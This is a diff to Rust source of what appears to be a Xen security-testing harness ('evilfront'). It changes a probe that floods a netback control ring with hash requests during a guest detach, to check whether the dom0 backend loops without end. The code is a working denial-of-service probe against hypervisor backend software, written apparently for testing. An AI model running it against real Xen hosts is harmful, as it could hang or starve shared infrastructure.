@@ -6,9 +6,8 @@ use crate::attacks::{record_probe, Report};
 use crate::front::{ConnectTweaks, CtrlRing, Frontend, MqLayout, MqRings};
 use crate::Args;
 use netif::wire::{
-    CtrlRequest, SRING_REQ_EVENT_OFFSET, XEN_NETIF_CTRL_HASH_ALGORITHM_TOEPLITZ, XEN_NETIF_CTRL_RING_SIZE,
-    XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, XEN_NETIF_CTRL_TYPE_SET_HASH_ALGORITHM, XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING,
-    XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE,
+    CtrlRequest, SRING_REQ_EVENT_OFFSET, XEN_NETIF_CTRL_HASH_ALGORITHM_TOEPLITZ, XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS,
+    XEN_NETIF_CTRL_TYPE_SET_HASH_ALGORITHM, XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE,
 };
 use std::path::Path;
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
@@ -163,25 +162,23 @@ fn storm(fe: &mut Frontend, mq: &MqRings, a: &Args, r: &mut Report) {
     r.set("seconds", t0.elapsed().as_secs());
 }
 
-/// Keeps the control ring full of GET_HASH_FLAGS requests (req_prod = the backend's
-/// rsp_prod + ring size, re-published as fast as responses come, kicking when the backend
-/// asked for it) from a second thread, while this one plays netfront's side of a detach
-/// (Closing, then Closed, when the backend goes Closing). Feeding only ends at STOP_FILE or
-/// after `a.seconds`: the backend must not depend on the frontend stopping.
-/// With `copy`, every request is a SET_HASH_MAPPING of the whole (128-entry) table from the
-/// data page, which the backend grant-copies: each request costs more, so the backend takes
-/// longer to drain a ring and a short pause of the feeder does not end its loop.
+/// The guest's side of the control ring feeding: dom0 keeps the ring full (`evilfront
+/// ctrl-feed`, ctrl_feed.rs: req_prod = the backend's rsp_prod + ring size, republished as
+/// fast as responses come, from a dom0 vCPU that does not pause; a feeder in this 1-vCPU guest
+/// paused for longer than any backend needs to drain a ring, so no backend loop outlasted
+/// it). Here: the setup requests and one GET_HASH_FLAGS, then `EVIL ctrl ready` with the grant
+/// references dom0 needs; from then on this process never writes `req_prod` (dom0 owns it). A
+/// second thread counts the responses and, until the backend leaves Connected, kicks
+/// `event-channel-ctrl` whenever the backend's `req_event` asks for it (dom0 cannot signal the
+/// guest's end of the channel), while this
+/// one plays netfront's side of a detach (Closing, then Closed, when the backend goes
+/// Closing). It goes on until STOP_FILE or `a.seconds`: the backend must not depend on the
+/// frontend stopping.
+/// With `copy`, dom0's requests are SET_HASH_MAPPINGs of the whole (128-entry) table from the
+/// data page, which the backend grant-copies; the setup makes them valid.
 fn ctrl_endless(fe: &mut Frontend, ctrl: &CtrlRing, copy: bool, a: &Args, r: &mut Report) {
     let _ = std::fs::remove_file(STOP_FILE);
     const MAPPING: u32 = 128;
-    let req = |idx: u32| match copy {
-        false => CtrlRequest { id: idx as u16, kind: XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, data: [0; 3] },
-        true => CtrlRequest {
-            id: idx as u16,
-            kind: XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING,
-            data: [ctrl.data.gref, MAPPING, 0],
-        },
-    };
     let setup = |kind: u16, d0: u32| {
         let idx = ctrl.req_prod();
         ctrl.request(CtrlRequest { id: idx as u16, kind, data: [d0, 0, 0] }, Duration::from_secs(5))
@@ -194,20 +191,18 @@ fn ctrl_endless(fe: &mut Frontend, ctrl: &CtrlRing, copy: bool, a: &Args, r: &mu
         r.set("size_status", setup(XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, MAPPING));
     }
     // One request first: the ring works at all.
-    let idx = ctrl.req_prod();
-    let first = ctrl.request(req(idx), Duration::from_secs(5));
-    r.set("first_status", first.map_or("none".into(), |p| p.status.to_string()));
-    let stop = AtomicBool::new(false);
-    let (answered, caught_up) = (AtomicU64::new(0), AtomicU64::new(0));
+    r.set("first_status", setup(XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, 0));
+    let (stop, closing) = (AtomicBool::new(false), AtomicBool::new(false));
+    let (answered, caught_up, kicks) = (AtomicU64::new(0), AtomicU64::new(0), AtomicU64::new(0));
     let t0 = Instant::now();
     let mut timeline = Vec::new();
     std::thread::scope(|s| {
         s.spawn(|| {
-            let mut req_prod = ctrl.req_prod();
             let mut last_rsp = ctrl.rsp_prod();
-            let mut spins: u64 = 0;
+            let mut kicked_at: Option<u32> = None;
+            let mut last_kick = Instant::now();
             while !stop.load(Ordering::Relaxed) {
-                let rsp = ctrl.rsp_prod();
+                let (req_prod, rsp) = (ctrl.req_prod(), ctrl.rsp_prod());
                 if rsp != last_rsp {
                     answered.fetch_add(u64::from(rsp.wrapping_sub(last_rsp)), Ordering::Relaxed);
                     last_rsp = rsp;
@@ -215,31 +210,23 @@ fn ctrl_endless(fe: &mut Frontend, ctrl: &CtrlRing, copy: bool, a: &Args, r: &mu
                 if rsp == req_prod {
                     caught_up.fetch_add(1, Ordering::Relaxed);
                 }
-                let target = rsp.wrapping_add(XEN_NETIF_CTRL_RING_SIZE);
-                if target != req_prod && target.wrapping_sub(req_prod) <= XEN_NETIF_CTRL_RING_SIZE {
-                    // The slots the backend answered are free again: fresh requests there.
-                    let mut i = req_prod;
-                    while i != target {
-                        ctrl.put(i, req(i));
-                        i = i.wrapping_add(1);
-                    }
-                    let old = req_prod;
-                    req_prod = target;
-                    ctrl.set_req_prod(req_prod);
-                    // RING_PUSH_REQUESTS_AND_CHECK_NOTIFY.
-                    let event = ctrl.page.word(SRING_REQ_EVENT_OFFSET).load(Ordering::SeqCst);
-                    if req_prod.wrapping_sub(event) < req_prod.wrapping_sub(old) {
-                        ctrl.notify();
-                    }
-                }
-                spins += 1;
-                if spins % (1 << 20) == 0 {
-                    // Now and then a kick anyway, in case one was lost.
+                // The backend went idle and armed req_event at or below what dom0 published:
+                // RING_PUSH_REQUESTS_AND_CHECK_NOTIFY's kick, once per armed value, and now
+                // and then anyway in case one was lost.
+                // Not once the detach began: from then on the backend must stop on its own.
+                let event = ctrl.page.word(SRING_REQ_EVENT_OFFSET).load(Ordering::SeqCst);
+                let due = req_prod.wrapping_sub(event) < 0x8000_0000 && kicked_at != Some(event);
+                if !closing.load(Ordering::Relaxed) && (due || last_kick.elapsed() > Duration::from_millis(100)) {
                     ctrl.notify();
+                    kicks.fetch_add(1, Ordering::Relaxed);
+                    kicked_at = Some(event);
+                    last_kick = Instant::now();
                 }
+                // Seldom: each wakeup of this guest's vCPU may take a pCPU from dom0's feeder.
+                sleep(Duration::from_millis(10));
             }
         });
-        println!("EVIL ctrl feeding");
+        println!("EVIL ctrl ready ring_gref={} data_gref={}", ctrl.page.gref, ctrl.data.gref);
         let be_state = format!("{}/state", fe.backend);
         let fe_state = format!("{}/state", fe.dir);
         let mut last_report = Instant::now();
@@ -251,6 +238,7 @@ fn ctrl_endless(fe: &mut Frontend, ctrl: &CtrlRing, copy: bool, a: &Args, r: &mu
                 let t = t0.elapsed().as_secs_f64();
                 timeline.push(format!("{:.1}:{}", t, st.map_or("gone".into(), |v| v.to_string())));
                 println!("EVIL t={t:.1} backend state {st:?}");
+                closing.store(true, Ordering::Relaxed);
                 // netfront's answer to a detach (xenbus_frontend_closed): Closing, Closed.
                 match st {
                     Some(5) => {
@@ -274,6 +262,7 @@ fn ctrl_endless(fe: &mut Frontend, ctrl: &CtrlRing, copy: bool, a: &Args, r: &mu
     });
     r.set("answered", answered.load(Ordering::Relaxed));
     r.set("caught_up", caught_up.load(Ordering::Relaxed));
+    r.set("kicks", kicks.load(Ordering::Relaxed));
     r.set("seconds", t0.elapsed().as_secs());
     r.set("backend_states", if timeline.is_empty() { "none".into() } else { timeline.join(",") });
 }
